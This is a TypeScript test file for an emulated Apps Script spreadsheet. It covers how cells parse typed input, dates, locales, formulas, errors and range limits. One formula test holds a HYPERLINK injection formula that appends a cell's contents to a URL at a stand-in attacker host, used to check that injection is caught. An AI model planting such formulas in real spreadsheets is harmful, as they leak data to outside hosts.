// Owns: the promises of cells: how what is written is read, shown, calculated and limited.

import fc from 'fast-check';
import { isScriptArray, isScriptDate, MONDAY, newBook, open } from './script';

/** Any text at all, lone surrogates and control characters included. */
const anyText = fc
  .array(fc.oneof(fc.integer({ min: 1, max: 0xffff }), fc.integer({ min: 32, max: 126 })), {
    minLength: 1,
    maxLength: 12,
  })
  .map((units) => String.fromCharCode(...units));

describe('what is written into a cell', () => {
  const book = newBook();
  const { sheet } = open(book);
  const cell = sheet.getRange('A1');
  afterEach(() => sheet.getRange('A1').clear());

  it.each([
    ['007', 7, '7'],
    ['-3.5', -3.5, '-3.5'],
    ['1,234', 1234, '1,234'],
    ['50%', 0.5, '50%'],
    ['$5.00', 5, '$5.00'],
    ['1e3', 1000, '1.00E+03'],
    ['TRUE', true, 'TRUE'],
    ['false', false, 'FALSE'],
    ["'007", '007', '007'],
    ["'=1+1", '=1+1', '=1+1'],
    ['hello', 'hello', 'hello'],
    [' two  words ', ' two  words ', ' two  words '],
    ['=1+1', 2, '2'],
    ['+1+1', 2, '2'],
    ['- a list', '- a list', '- a list'],
    ['@mention', '@mention', '@mention'],
    ['9:30', expect.anything(), '9:30'],
    ['3/4 done', '3/4 done', '3/4 done'],
    ['June', 'June', 'June'],
    ['13/45', '13/45', '13/45'],
  ])('reads %j as a person would have typed it', (written, value, shown) => {
    cell.setValue(written);
    expect(cell.getValue()).toEqual(value);
    expect(cell.getDisplayValue()).toBe(shown);
  });

  it.each([
    ['1/2', '2026-01-02T05:00:00.000Z', '1/2'],
    ['1/2/2025', '2025-01-02T05:00:00.000Z', '1/2/2025'],
    ['2026-07-04', '2026-07-04T04:00:00.000Z', '2026-07-04'],
    ['Jan 2', '2026-01-02T05:00:00.000Z', 'Jan 2'],
    ['2 January 2026', '2026-01-02T05:00:00.000Z', '2 Jan 2026'],
    ['11/23/2026 14:05', '2026-11-23T19:05:00.000Z', '11/23/2026 14:05'],
  ])('makes a date of %j, at midnight of the spreadsheet', (written, iso, shown) => {
    cell.setValue(written);
    const value: Date = cell.getValue();
    expect(isScriptDate(value)).toBe(true);
    expect(value.toISOString()).toBe(iso);
    expect(cell.getDisplayValue()).toBe(shown);
  });

  it('keeps text in a cell set to plain text', () => {
    cell.setNumberFormat('@');
    for (const written of ['1/2', '007', 'TRUE', '=1+1', '+1']) {
      cell.setValue(written);
      expect(cell.getValue()).toBe(written);
      expect(cell.getFormula()).toBe('');
    }
  });

  it('takes one apostrophe off and keeps the rest', () => {
    cell.setValue("''tis");
    expect(cell.getValue()).toBe("'tis");
    cell.setNumberFormat('@').setValue("'tis");
    expect(cell.getValue()).toBe('tis');
  });

  it('empties for an empty text, null and undefined', () => {
    for (const empty of ['', null, undefined]) {
      cell.setValue('something').setValue(empty);
      expect(cell.isBlank()).toBe(true);
      expect(cell.getValue()).toBe('');
    }
  });

  it('gives a moment back unchanged, whatever the realm of the Date', () => {
    cell.setValue(new Date(MONDAY));
    expect(cell.getDisplayValue()).toBe('11/23/2026 9:30:00');
    const value: Date = cell.getValue();
    expect(value.getTime()).toBe(MONDAY);
    cell.setValue(value);
    expect(cell.getValue().getTime()).toBe(MONDAY);
  });

  it('keeps the date format a cell has', () => {
    cell.setNumberFormat('ddd d mmm, h:mm am/pm').setValue(new Date(MONDAY));
    expect(cell.getDisplayValue()).toBe('Mon 23 Nov, 9:30 am');
  });

  it('takes 50,000 characters and refuses one more', () => {
    cell.setValue('x'.repeat(50_000));
    expect(cell.getValue()).toHaveLength(50_000);
    expect(() => cell.setValue('x'.repeat(50_001))).toThrow(
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
  });

  it('refuses to write an object rather than guess its text', () => {
    expect(() => cell.setValue({ a: 1 })).toThrow('is not in the embedded Workspace');
  });

  it('gives back any text written after an apostrophe', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        cell.setValue(`'${text}`);
        expect(cell.getValue()).toBe(text);
      }),
    );
  });

  it('never makes a formula of text in a plain-text cell', () => {
    cell.setNumberFormat('@');
    const odd = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '1', '/', ' ', 'A', '(', '"'),
    });
    fc.assert(
      fc.property(odd, (text) => {
        cell.setValue(text);
        expect(cell.getFormula()).toBe('');
        expect(cell.getValue()).toBe(text);
      }),
    );
  });

  it('gives back any finite number', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
        cell.setValue(number);
        expect(cell.getValue()).toBe(number);
      }),
    );
  });
});

describe('formulas', () => {
  it('are seen as formulas, with the value a real engine gives', () => {
    const { sheet } = open(newBook());
    sheet.getRange('A1:A3').setValues([[3], [4], ['=SUM(A1:A2)*2']]);
    expect(sheet.getRange('A3').getFormula()).toBe('=SUM(A1:A2)*2');
    expect(sheet.getRange('A1:A3').getValues()).toEqual([[3], [4], [14]]);
    sheet.getRange('A1').setValue(10);
    expect(sheet.getRange('A3').getValue()).toBe(28);
  });

  it('give fifteen digits', () => {
    const { sheet } = open(newBook());
    sheet.getRange('A1').setFormula('=1/3');
    expect(sheet.getRange('A1').getValue()).toBeCloseTo(1 / 3, 14);
    expect(sheet.getRange('A1').getDisplayValue()).toBe('0.3333333333');
  });

  it('show an injected formula for what it is', () => {
    const { sheet } = open(newBook());
    sheet.getRange('A1').setValue('=HYPERLINK("http://evil.example?"&B1,"click")');
    expect(sheet.getRange('A1').getFormula()).toContain('HYPERLINK');
    expect(sheet.getRange('A1').getValue()).toBe('#NAME?');
  });

  it('give errors as their names', () => {
    const { sheet } = open(newBook());
    sheet.getRange('A1:A4').setFormulas([['=1/0'], ['=nonsense'], ['=Nowhere!A1'], ['=A4']]);
    expect(sheet.getRange('A1:A4').getDisplayValues().flat()).toEqual([
      '#DIV/0!',
      '#NAME?',
      '#REF!',
      '#REF!',
    ]);
  });

  it('read the Workspace’s clock', () => {
    let now = MONDAY;
    const { sheet } = open(newBook({ now: () => now }));
    sheet.getRange('A1').setFormula('=TODAY()');
    expect(sheet.getRange('A1').getDisplayValue()).toBe('11/23/2026');
    now += 3 * 86_400_000;
    expect(sheet.getRange('A1').getDisplayValue()).toBe('11/26/2026');
  });

  it('reach open ranges and other tabs, and follow a renamed tab', () => {
    const { sheet, spreadsheet } = open(newBook());
    const notes = spreadsheet.insertSheet("Ms. Rivera's notes");
    notes.getRange('B2:B4').setValues([[1], [2], [3]]);
    sheet.getRange('A1').setFormula("=SUM('Ms. Rivera''s notes'!B2:B)");
    expect(sheet.getRange('A1').getValue()).toBe(6);
    notes.setName('Log');
    expect(sheet.getRange('A1').getFormula()).toBe('=SUM(Log!B2:B)');
    expect(sheet.getRange('A1').getValue()).toBe(6);
    spreadsheet.deleteSheet(notes);
    expect(sheet.getRange('A1').getFormula()).toBe('=SUM(#REF!)');
  });

  it('spread over the cells below, and say so when those are taken', () => {
    const { sheet } = open(newBook());
    sheet.getRange('A1:A3').setValues([['b'], ['a'], ['b']]);
    sheet.getRange('C1').setFormula('=UNIQUE(A1:A3)');
    expect(sheet.getRange('C1:C3').getValues()).toEqual([['b'], ['a'], ['']]);
    sheet.getRange('C2').setValue('in the way');
    expect(sheet.getRange('C1').getValue()).toBe('#REF!');
    sheet.getRange('C2').clearContent();
    expect(sheet.getRange('C1:C2').getValues()).toEqual([['b'], ['a']]);
  });

  it('take semicolons where the locale has decimal commas', () => {
    const { sheet } = open(newBook({ locale: 'de_DE' }));
    sheet.getRange('A1').setValue('=SUM(1,5;2)');
    expect(sheet.getRange('A1').getValue()).toBe(3.5);
    expect(sheet.getRange('A1').getDisplayValue()).toBe('3,5');
    expect(sheet.getRange('A1').getFormula()).toBe('=SUM(1,5;2)');
    sheet.getRange('A2').setFormula('=IF(TRUE,"a","b")');
    expect(sheet.getRange('A2').getValue()).toBe('#ERROR!');
  });
});

describe('the spreadsheet’s locale and time zone', () => {
  it('decide how dates and numbers are read', () => {
    const { sheet } = open(newBook({ locale: 'en_GB', timeZone: 'Europe/London' }));
    sheet.getRange('A1').setValue('1/2/2026');
    expect(sheet.getRange('A1').getValue().toISOString()).toBe('2026-02-01T00:00:00.000Z');
    const german = open(newBook({ locale: 'de_DE' })).sheet;
    german.getRange('A1:C1').setValues([['3,5', '1.5.2026', '3.5']]);
    expect(german.getRange('A1').getValue()).toBe(3.5);
    expect(german.getRange('B1').getDisplayValue()).toBe('01.05.2026');
  });

  it('keep what a date shows when the zone changes, and move its moment', () => {
    const { sheet, spreadsheet } = open(newBook());
    sheet.getRange('A1').setValue(new Date(MONDAY));
    spreadsheet.setSpreadsheetTimeZone('America/Los_Angeles');
    expect(sheet.getRange('A1').getDisplayValue()).toBe('11/23/2026 9:30:00');
    expect(sheet.getRange('A1').getValue().getTime()).toBe(MONDAY + 3 * 3_600_000);
  });

  it('keep a moment through both ends of summer time', () => {
    const { sheet } = open(newBook());
    for (const iso of ['2026-03-08T06:59:00Z', '2026-03-08T07:00:00Z', '2026-11-01T07:00:00Z']) {
      sheet.getRange('A1').setValue(new Date(iso));
      expect(sheet.getRange('A1').getValue().getTime()).toBe(Date.parse(iso));
    }
  });
});

describe('shapes', () => {
  it('must fit, in Google’s words', () => {
    const { sheet } = open(newBook());
    expect(() => sheet.getRange('A1:B2').setValues([[1, 2]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() => sheet.getRange('A1:B1').setValues([[1, 2, 3]])).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 3 but the range has 2.',
    );
    expect(() => sheet.getRange('A1').setValues(5 as never)).toThrow(
      "The parameters (number) don't match the method signature for SpreadsheetApp.Range.setValues.",
    );
  });

  it('refuse what lies outside the sheet', () => {
    const { sheet } = open(newBook());
    const message = 'The coordinates of the range are outside the dimensions of the sheet.';
    expect(() => sheet.getRange(1001, 1)).toThrow(message);
    expect(() => sheet.getRange(1, 27)).toThrow(message);
    expect(() => sheet.getRange(1, 1, 0)).toThrow(
      'The number of rows in the range must be at least 1.',
    );
    expect(() => sheet.getRange('nonsense')).toThrow('Range not found');
    sheet.insertRowsAfter(1000, 5);
    sheet.getRange(1005, 1).setValue('last');
    expect(sheet.getMaxRows()).toBe(1005);
    expect(sheet.getLastRow()).toBe(1005);
  });

  it('come back as the script’s own arrays', () => {
    const { sheet } = open(newBook());
    const values = sheet.getRange('A1:B2').getValues();
    expect(isScriptArray(values)).toBe(true);
    expect(isScriptArray(values[0])).toBe(true);
  });
});

describe('what is missing', () => {
  it('is said, never pretended', () => {
    const { sheet, spreadsheet } = open(newBook());
    expect(() => sheet.getRange('A1').createPivotTable(sheet.getRange('A1'))).toThrow(
      'SpreadsheetApp.Range.createPivotTable is not in the embedded Workspace',
    );
    expect(() => spreadsheet.getViewers()).toThrow(
      'SpreadsheetApp.Spreadsheet.getViewers is not in the embedded Workspace',
    );
  });
});
